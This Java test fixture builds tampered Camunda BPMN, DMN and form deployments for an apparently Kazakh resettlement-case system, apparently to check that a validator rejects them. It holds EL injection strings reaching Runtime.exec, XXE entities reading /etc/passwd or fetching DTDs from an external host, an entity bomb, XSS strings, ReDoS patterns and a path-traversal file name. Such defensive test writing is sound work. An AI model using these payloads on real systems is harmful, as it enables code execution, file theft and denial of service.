package kz.qonys.journey;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;

/** Deployments that somebody means harm with: the real set with one thing in it changed, or one file beside it. */
final class HostileModels {

    private static final String REVIEW = "application-review.bpmn";
    private static final String CASE = "resettlement-case.bpmn";
    private static final String INQUIRY = "registry-inquiry.bpmn";
    private static final String ROUTE = "review-route.dmn";
    private static final String FORM = "assign-officer.form";
    private static final String CANARY = "kz.qonys.journey.Canary";
    private static final String LABELS = "\"label.kk\":\"a\",\"label.en\":\"a\"";
    private static final String TAKE = "<bpmn:userTask id=\"userTask_takeApplication\"";
    private static final String FIRST_PROPERTIES = "<camunda:properties>\n          <camunda:property name=\"term\"";

    private static final List<String> PAYLOADS = List.of(
            "${canary.strike()}", "#{canary.strike()}",
            "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
            "${execution.processEngineServices.repositoryService.deleteDeployment('1')}",
            "${execution.setVariable('decision','approve')}", "${applicationContext.getBean('dataSource')}",
            "${staff.group('leb-head', departureOffice).getClass()}", "${T(java.lang.Runtime).getRuntime()}",
            "x${decision}y", "${a}${b}", "${caseFiles.summary(caseId).applicantIin}",
            "${terms.due('intake') == canary.strike()}");

    private final Map<String, Models> all = new LinkedHashMap<>();

    static Map<String, Models> all() {
        HostileModels models = new HostileModels();
        models.expressions();
        models.code();
        models.listeners();
        models.parsers();
        models.endless();
        models.decisions();
        models.forms();
        models.files();
        return models.all;
    }

    private void add(String name, Models models) {
        if (all.put(name, models) != null) {
            throw new IllegalStateException("Two of " + name);
        }
    }

    /** Every place that the engine would evaluate, with every payload. */
    private void expressions() {
        for (int i = 0; i < PAYLOADS.size(); i++) {
            String payload = PAYLOADS.get(i);
            String no = " #" + i;
            add("name" + no, set(REVIEW, "name=\"Принять заявление\"", "name=\"" + payload + "\""));
            add("documentation" + no, set(REVIEW, "Приказ: сотрудник карьерного центра", payload));
            add("assignee" + no, set(REVIEW, "camunda:assignee=\"${author}\"", "camunda:assignee=\"" + payload + "\""));
            add("group" + no, set(REVIEW, "${staff.group('lmc-head', departureOffice)}", payload));
            add("due date" + no,
                    set(REVIEW, "camunda:dueDate=\"${terms.due('intake')}\"", "camunda:dueDate=\"" + payload + "\""));
            add("timer" + no, set(REVIEW, ">${terms.warning('intake')}<", ">" + payload + "<"));
            add("condition" + no, set(CASE, "${decision == 'withdraw'}", payload));
            add("delegate" + no, set(CASE, "${closeCase}", payload));
            add("source expression" + no, set(REVIEW, "${'portal'}", payload));
            add("called element" + no,
                    set(REVIEW, "calledElement=\"registry-inquiry\"", "calledElement=\"" + payload + "\""));
            add("form reference" + no, set(REVIEW, "formRef=\"take-application\"", "formRef=\"" + payload + "\""));
            add("decision reference" + no,
                    set(REVIEW, "decisionRef=\"review-route\"", "decisionRef=\"" + payload + "\""));
            add("input parameter" + no,
                    set(CASE, ">refused</camunda:inputParameter>", ">" + payload + "</camunda:inputParameter>"));
            add("message name" + no,
                    set(CASE, "name=\"resettlement.withdrawalRequested\"", "name=\"" + payload + "\""));
            add("priority" + no, set(REVIEW, TAKE, TAKE + " camunda:priority=\"" + payload + "\""));
            add("follow-up date" + no, set(REVIEW, TAKE, TAKE + " camunda:followUpDate=\"" + payload + "\""));
            add("listener" + no, set(REVIEW, "delegateExpression=\"${applicationRelease}\"", "delegateExpression=\""
                    + payload + "\""));
        }
    }

    private void code() {
        String service = "camunda:delegateExpression=\"${closeCase}\"";
        String task = "<bpmn:serviceTask id=\"serviceTask_closeRefused\"";
        add("class", set(CASE, service, "camunda:class=\"" + CANARY + "\""));
        add("class beside a delegate", set(CASE, service, service + " camunda:class=\"" + CANARY + "\""));
        add("java expression", set(CASE, service, "camunda:expression=\"${canary.strike()}\""));
        for (String type : List.of("external", "mail", "shell", "connector")) {
            add("type " + type, set(CASE, service, "camunda:type=\"" + type + "\" camunda:topic=\"x\""));
        }
        add("activiti class",
                set(CASE, task, "<bpmn:serviceTask xmlns:activiti=\"http://activiti.org/bpmn\" activiti:class=\""
                + CANARY + "\" id=\"serviceTask_closeRefused\""));
        add("implementation", set(CASE, service, "implementation=\"##WebService\" operationRef=\"x\" " + service));
        add("script task", changed(CASE, text -> text.replace("<bpmn:serviceTask id=\"serviceTask_closeRefused\"",
                "<bpmn:scriptTask id=\"serviceTask_closeRefused\" scriptFormat=\"javascript\"").replaceFirst(
                "(?s)(closeRefused.*?)</bpmn:serviceTask>", "$1<bpmn:script>canary</bpmn:script></bpmn:scriptTask>")));
        add("input script", set(CASE, ">refused</camunda:inputParameter>",
                "><camunda:script scriptFormat=\"groovy\">x</camunda:script></camunda:inputParameter>"));
        add("input list of scripts", set(CASE, ">refused</camunda:inputParameter>",
                "><camunda:list><camunda:script "
                + "scriptFormat=\"groovy\">x</camunda:script></camunda:list></camunda:inputParameter>"));
        add("input map", set(CASE, ">refused</camunda:inputParameter>",
                "><camunda:map><camunda:entry "
                + "key=\"a\">${canary.strike()}</camunda:entry></camunda:map></camunda:inputParameter>"));
        add("external script", set(CASE, ">refused</camunda:inputParameter>",
                "><camunda:script scriptFormat=\"groovy\" "
                + "resource=\"deployment://x.groovy\"/></camunda:inputParameter>"));
        extension("connector",
                "<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>");
        extension("field", "<camunda:field name=\"x\"><camunda:expression>${canary.strike()}</camunda:expression>"
                + "</camunda:field>");
        extension("form data", "<camunda:formData><camunda:formField id=\"a\" type=\"string\"><camunda:validation>"
                + "<camunda:constraint name=\"validator\" config=\"" + CANARY
                + "\"/></camunda:validation></camunda:formField></camunda:formData>");
        extension("form property", "<camunda:formProperty id=\"a\" expression=\"${canary.strike()}\"/>");
        extension("foreign extension", "<x:run xmlns:x=\"urn:x\" class=\"" + CANARY + "\"/>");
        add("form key outside", set(REVIEW, "camunda:formRef=\"take-application\"",
                "camunda:formKey=\"embedded:http://198.51.100.7/x.html\""));
        add("form key of a deployment",
                set(REVIEW, "camunda:formRef=\"take-application\"", "camunda:formKey=\"embedded:deployment:x.html\""));
        add("form handler", set(REVIEW, TAKE, TAKE + " camunda:formHandlerClass=\"" + CANARY + "\""));
        add("candidate users", set(REVIEW, TAKE, TAKE + " camunda:candidateUsers=\"admin\""));
        add("potential owner", changed(REVIEW,
                text -> text.replaceFirst("(<bpmn:outgoing>flow_takeApplicationTo[^<]*</bpmn:outgoing>)",
                "$1<bpmn:potentialOwner><bpmn:resourceAssignmentExpression><bpmn:formalExpression>\\${canary.strike()}"
                        + "</bpmn:formalExpression></bpmn:resourceAssignmentExpression></bpmn:potentialOwner>")));
        add("variable mapping class", set(REVIEW, "calledElement=\"registry-inquiry\"",
                "calledElement=\"registry-inquiry\" camunda:variableMappingClass=\"" + CANARY + "\""));
        add("all variables",
                set(REVIEW, "<camunda:in source=\"caseId\" target=\"caseId\"/>", "<camunda:in variables=\"all\"/>"));
        add("business key", set(REVIEW, "#{execution.processBusinessKey}", "${canary.strike()}"));
        add("group by hand", set(REVIEW, "${staff.group('lmc-head', departureOffice)}", "camunda-admin"));
        add("condition as script", set(CASE, "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">${refused}",
                "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\" language=\"javascript\">canary"));
        add("condition from a file",
                set(CASE, "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">${refused}",
                "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\" "
                + "camunda:resource=\"deployment://x.js\">${refused}"));
        add("import of a web service",
                set(CASE, "<bpmn:process id", "<bpmn:import importType=\"http://schemas.xmlsoap.org/wsdl/\" "
                + "location=\"http://198.51.100.7/x.wsdl\" namespace=\"urn:x\"/><bpmn:process id"));
        add("tag in a label",
                set(REVIEW, "value=\"Өтінішті қабылдау\"", "value=\"&lt;img src=x onerror=alert(1)&gt;\""));
    }

    private void extension(String name, String xml) {
        add(name, set(REVIEW, FIRST_PROPERTIES, xml + FIRST_PROPERTIES));
    }

    /** Listeners on every kind of element. */
    private void listeners() {
        for (String how : List.of("class=\"" + CANARY + "\"", "expression=\"${canary.strike()}\"",
                "delegateExpression=\"${dataSource}\"")) {
            String word = how.substring(0, how.indexOf('='));
            for (String kind : List.of("startEvent", "userTask", "callActivity", "exclusiveGateway", "boundaryEvent",
                    "businessRuleTask", "endEvent", "sequenceFlow", "process")) {
                add("execution listener on " + kind + " by " + word, changed(REVIEW, text -> text.replaceFirst(
                        "(?s)(<bpmn:" + kind + " .*?<bpmn:extensionElements>)",
                        "$1" + quoted("<camunda:executionListener event=\""
                                + (kind.equals("sequenceFlow") ? "take" : "start") + "\" " + how + "/>"))));
            }
            for (String event : List.of("create", "assignment", "complete", "timeout")) {
                add("task listener at " + event + " by " + word, set(REVIEW, FIRST_PROPERTIES,
                        "<camunda:taskListener event=\"" + event + "\" " + how + "/>" + FIRST_PROPERTIES));
            }
        }
        add("script listener", set(REVIEW, FIRST_PROPERTIES, "<camunda:taskListener event=\"create\"><camunda:script "
                + "scriptFormat=\"javascript\">x</camunda:script></camunda:taskListener>" + FIRST_PROPERTIES));
    }

    private void parsers() {
        String head = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";
        for (String file : List.of(INQUIRY, ROUTE)) {
            add("external entity in " + file,
                    set(file, head, head + "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"));
            add("external document type in " + file,
                    set(file, head, head + "<!DOCTYPE x SYSTEM \"http://198.51.100.7/x.dtd\">"));
            add("parameter entity in " + file,
                    set(file, head, head + "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://198.51.100.7/x\"> %p;]>"));
            add("entity bomb in " + file, set(file, head, head + bomb()));
            add("style sheet in " + file,
                    set(file, head, head + "<?xml-stylesheet href=\"http://198.51.100.7/x.xsl\"?>"));
        }
        add("schema from outside", set(INQUIRY, "<bpmn:definitions ",
                "<bpmn:definitions xsi:schemaLocation=\"urn:x http://198.51.100.7/x.xsd\" "));
        add("inclusion", set(INQUIRY, "<bpmn:startEvent ", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
                + "href=\"file:///etc/passwd\"/><bpmn:startEvent "));
    }

    private static String bomb() {
        StringBuilder bomb = new StringBuilder("<!DOCTYPE x [<!ENTITY a0 \"ha\">");
        for (int i = 1; i < 10; i++) {
            bomb.append("<!ENTITY a").append(i).append(" \"").append(("&a" + (i - 1) + ";").repeat(10)).append("\">");
        }
        return bomb.append("]>").toString();
    }

    private void endless() {
        add("timer cycle without a pause", set(REVIEW,
                "<bpmn:timeDate xsi:type=\"bpmn:tFormalExpression\">${terms.warning('intake')}</bpmn:timeDate>",
                "<bpmn:timeCycle xsi:type=\"bpmn:tFormalExpression\">R/PT0S</bpmn:timeCycle>"));
        String wait = "<bpmn:timeDate xsi:type=\"bpmn:tFormalExpression\">${nextAttempt}</bpmn:timeDate>";
        for (String time : List.of("PT0S", "PT1S", "-P1D", "P99999999Y", "PT9223372036854775807S", "R5/PT1S")) {
            add("timer of " + time, set(INQUIRY, wait, "<bpmn:timeDuration xsi:type=\"bpmn:tFormalExpression\">" + time
                    + "</bpmn:timeDuration>"));
        }
        for (String cycle : List.of("R99/PT0S", "R1000000/PT1S", "PT0S,PT0S", "PT1M" + ",PT1M".repeat(100),
                "${canary.strike()}", "R/PT1S")) {
            add("retries " + cycle.substring(0, Math.min(20, cycle.length())),
                    set(INQUIRY, "PT10S,PT30S,PT1M,PT5M,PT15M,PT1H", cycle));
        }
        add("no pause at all", set(INQUIRY, "targetRef=\"endEvent_enteredManually\"",
                "targetRef=\"serviceTask_startReconciliation\""));
        add("calls itself", set(INQUIRY, "<bpmn:serviceTask id=\"serviceTask_askRegistry\" name=\"Обратиться к "
                + "реестру\" camunda:asyncBefore=\"true\" "
                + "camunda:delegateExpression=\"${askRegistry}\">",
                "<bpmn:callActivity id=\"callActivity_askRegistry\" name=\"Обратиться к реестру\" "
                + "calledElement=\"registry-inquiry\" camunda:calledElementBinding=\"deployment\">")
                .changed(INQUIRY, text -> text
                .replaceFirst("(?s)(<bpmn:callActivity .*?)</bpmn:serviceTask>", "$1</bpmn:callActivity>")
                .replace("serviceTask_askRegistry", "callActivity_askRegistry")));
        for (String loop
                : List.of("<bpmn:loopCardinality xsi:type=\"bpmn:tFormalExpression\">1000000</bpmn:loopCardinality>",
                "<bpmn:loopCardinality xsi:type=\"bpmn:tFormalExpression\">${canary.strike()}</bpmn:loopCardinality>",
                "")) {
            add("repeated: " + loop.length(), changed(CASE, text ->
                    text.replaceFirst("(?s)(<bpmn:serviceTask id=\"serviceTask_closeRefused\".*?)</bpmn:serviceTask>",
                    "$1" + quoted("<bpmn:multiInstanceLoopCharacteristics>" + loop
                            + "</bpmn:multiInstanceLoopCharacteristics>") + "</bpmn:serviceTask>")));
        }
        add("repeated over an expression", changed(CASE, text ->
                text.replaceFirst("(?s)(<bpmn:serviceTask id=\"serviceTask_closeRefused\".*?)</bpmn:serviceTask>",
                "$1" + quoted("<bpmn:multiInstanceLoopCharacteristics camunda:collection=\"${canary.strike()}\"/>")
                + "</bpmn:serviceTask>")));
        add("starts by timer",
                changed(INQUIRY, text -> text.replaceFirst("(<bpmn:outgoing>flow_inquiryNeeded[^<]*</bpmn:outgoing>)",
                "$1<bpmn:timerEventDefinition><bpmn:timeDuration "
                + "xsi:type=\"bpmn:tFormalExpression\">PT5M</bpmn:timeDuration></bpmn:timerEventDefinition>")));
        add("conditional event", changed(INQUIRY,
                text -> text.replaceFirst("(?s)<bpmn:timerEventDefinition.*?</bpmn:timerEventDefinition>",
                "<bpmn:conditionalEventDefinition><bpmn:condition "
                + "xsi:type=\"bpmn:tFormalExpression\">\\${canary.strike()}</bpmn:condition>"
                + "</bpmn:conditionalEventDefinition>")));
    }

    private void decisions() {
        for (String language : List.of("juel", "javascript", "groovy", "http://camunda.org/schema/1.0/juel")) {
            add("input in " + language,
                    set(ROUTE, "typeRef=\"boolean\"", "typeRef=\"boolean\" expressionLanguage=\"" + language + "\""));
            add("cell in " + language, set(ROUTE, "<inputEntry id=\"entry_attachmentOnly1\"",
                    "<inputEntry expressionLanguage=\"" + language + "\" id=\"entry_attachmentOnly1\""));
        }
        for (String text
                : List.of("${canary.strike()}", "for x in 1..999999999 return x", "some x in [1] satisfies true",
                "java.lang.System.exit(1)", "= canary", "{\"f\": function(x) external {}}")) {
            add("input " + text,
                    set(ROUTE, "<text>sameRegion</text>", "<text>" + text.replace("<", "&lt;") + "</text>"));
            add("condition cell " + text, set(ROUTE, "<text>true</text>", "<text>" + text + "</text>"));
            add("result cell " + text, set(ROUTE, "<text>\"assignment\"</text>", "<text>" + text + "</text>"));
        }
        add("literal expression", changed(ROUTE, text -> text.replaceAll("(?s)<decisionTable.*</decisionTable>",
                "<literalExpression id=\"x\" "
                + "expressionLanguage=\"juel\"><text>\\${canary.strike()}</text></literalExpression>")));
        add("required decision", set(ROUTE, "<decisionTable id", "<informationRequirement id=\"r\"><requiredDecision "
                + "href=\"#review-route\"/></informationRequirement><decisionTable id"));
    }

    private void forms() {
        for (String type : List.of("iframe", "button", "image", "filepicker", "documentPreview", "script")) {
            component(type, "{\"type\":\"" + type
                    + "\",\"id\":\"x1\",\"url\":\"https://198.51.100.7\",\"source\":\"https://198.51.100.7\"}");
        }
        for (String text
                : List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
                "![x](https://198.51.100.7/x.png)", "<a href='https://198.51.100.7'>x</a>", "{{canary}}",
                "{{#loop a}}{{/loop}}")) {
            component("text " + text, "{\"type\":\"text\",\"id\":\"x1\",\"text\":\"" + text
                    + "\",\"properties\":{\"text.kk\":\"a\",\"text.en\":\"a\"}}");
            component("html " + text, "{\"type\":\"html\",\"id\":\"x1\",\"content\":\"" + text
                    + "\",\"properties\":{\"content.kk\":\"a\",\"content.en\":\"a\"}}");
        }
        for (String feel
                : List.of("=for i in 1..999999999 return i", "=count(for i in 1..9 return i) = 1", "=canary.strike()",
                "=get value(category, \\\"x\\\")", "=category[item != \\\"a\\\"]", "=category = = 1",
                "=unknownName = 1", "=string join([1])", "=((category")) {
            component("hidden by " + feel, "{\"type\":\"separator\",\"id\":\"x1\",\"conditional\":{\"hide\":\"" + feel
                    + "\"}}");
        }
        for (String pattern : List.of("(a+)+$", "(a|aa)+$", "(", "(?=a)x", "(.*)\\\\1")) {
            component("pattern " + pattern, field("\"key\":\"applicantPhone2\",\"properties\":{\"binding\":\"flow\","
                    + LABELS + "},\"validate\":{\"pattern\":\""
                    + pattern + "\"}"));
        }
        component("a field nobody keeps", field("\"key\":\"salaryOfTheMinister\",\"properties\":{" + LABELS + "}"));
        component("a path into an object", field("\"key\":\"applicant.iin\",\"properties\":{" + LABELS + "}"));
        component("both", field("\"key\":\"applicantPhone\",\"properties\":{\"binding\":\"both\"," + LABELS + "}"));
        component("own validator", field("\"key\":\"flag\",\"properties\":{\"binding\":\"flow\"," + LABELS
                + "},\"validate\":{\"custom\":\"" + CANARY + "\"}"));
        component("label computed",
                "{\"type\":\"textfield\",\"id\":\"x1\",\"key\":\"flag\",\"label\":\"=canary\","
                + "\"properties\":{\"binding\":\"flow\"," + LABELS + "}}");
        add("newer schema", set(FORM, "\"schemaVersion\": 16", "\"schemaVersion\": 17"));
        add("cloud form", set(FORM, "\"Camunda Platform\"", "\"Camunda Cloud\""));
        add("id twice in JSON",
                set(FORM, "\"id\": \"assign-officer\",", "\"id\": \"assign-officer\", \"id\": \"other\","));
    }

    private static String field(String rest) {
        return "{\"type\":\"textfield\",\"id\":\"x1\",\"label\":\"a\"," + rest + "}";
    }

    private void component(String name, String json) {
        add("form: " + name, set(FORM, "\"components\": [", "\"components\": [" + json + ","));
    }

    private void files() {
        for (String file : List.of("x.js", "x.groovy", "x.html", "x.jar", "x.cmmn", "x.bpmn20.xml", "x.dmn11.xml",
                "x.png", "x", "../../etc/x.sh", "x.bpmn.exe", "x.py")) {
            add("file " + file, Models.all().with(file, "canary"));
        }
    }

    private static Models set(String file, String before, String after) {
        return Models.all().once(file, before, after);
    }

    private static Models changed(String file, UnaryOperator<String> change) {
        return Models.all().changed(file, change);
    }

    private static String quoted(String text) {
        return Matcher.quoteReplacement(text);
    }
}
